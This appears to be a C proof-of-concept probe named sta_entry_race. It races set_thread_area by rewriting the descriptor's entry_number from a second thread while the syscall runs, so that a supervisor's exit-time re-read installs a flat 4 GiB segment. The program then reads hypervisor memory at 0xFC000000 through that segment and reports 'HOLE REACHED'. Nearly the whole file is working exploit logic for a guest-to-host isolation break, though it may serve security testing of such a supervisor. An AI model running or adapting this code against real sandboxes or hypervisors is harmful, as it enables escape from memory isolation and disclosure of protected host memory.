/* sta_entry_race: set_thread_area(entry 13, flat base 0) while another thread keeps rewriting the
 * struct's entry_number (13 <-> 14). A supervisor that reads the entry back from guest memory at the
 * syscall's exit truncates the wrong slot and leaves a flat descriptor in the real one; this program
 * then reads the hypervisor hole through it. Prints HOLE REACHED if so. */
#define _GNU_SOURCE
#include <asm/ldt.h>
#include <pthread.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "hole.h"

static struct user_desc d;
static volatile int stop;

static void *redirect(void *unused)
{
    volatile unsigned *entry = &d.entry_number;
    (void)unused;
    while (!stop) { *entry = 14; *entry = 13; }
    return NULL;
}

int main(void)
{
    if (map_hole()) return 1;
    pthread_t th;
    pthread_create(&th, NULL, redirect, NULL);
    for (int i = 0; i < 2000; i++) {
        memset(&d, 0, sizeof d);
        d.entry_number = 13; d.limit = 0xFFFFF; d.seg_32bit = 1; d.limit_in_pages = 1; d.useable = 1;
        if (syscall(SYS_set_thread_area, &d) < 0) continue;
        for (unsigned sel = 0x6b; sel <= 0x73; sel += 8)
            if (reaches_everything(sel)) {
                printf("attempt %d: selector %#x reaches 4 GiB; read %#x at 0xFC000000: HOLE REACHED\n", i, sel,
                       read_hole_through(sel));
                stop = 1;
                return 0;
            }
    }
    stop = 1;
    printf("no hole in 2000 attempts\n");
    return 0;
}
